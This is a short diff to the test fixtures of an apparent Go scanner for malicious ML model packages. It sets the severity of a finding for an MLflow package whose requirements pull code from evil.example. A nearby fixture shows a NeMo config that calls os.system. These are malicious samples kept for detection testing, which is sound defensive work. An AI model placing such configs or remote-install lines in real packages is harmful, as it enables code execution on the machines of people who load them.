@@ -312,7 +312,7 @@ func packageSamples() []sample {
 		{"a.nemo", "a NeMo package", tarOf(member{"model_config.yaml", []byte("target: nemo.collections.asr.models.EncDecCTCModel\n")}, member{"model_weights.ckpt", torchZip(pickled2(stateDict))}), "nemo", "", ""},
 		{"a.nemo", "a NeMo package that calls", tarOf(member{"model_config.yaml", []byte("x:\n  _target_: os.system\n  command: id\n")}), "nemo", "MF203", Critical},
 		{"a.zip", "an MLflow package", zipOf(zip.Deflate, member{"MLmodel", []byte("flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n")}, member{"requirements.txt", []byte("scikit-learn==1.5.0\n")}), "zip", "", ""},
-		{"a.zip", "an MLflow package that installs from an address", zipOf(zip.Deflate, member{"MLmodel", []byte("flavors: {}\n")}, member{"requirements.txt", []byte("git+https://evil.example/x.git\n")}), "zip", "MF251", ""},
+		{"a.zip", "an MLflow package that installs from an address", zipOf(zip.Deflate, member{"MLmodel", []byte("flavors: {}\n")}, member{"requirements.txt", []byte("git+https://evil.example/x.git\n")}), "zip", "MF251", Medium},
 	}
 }
 
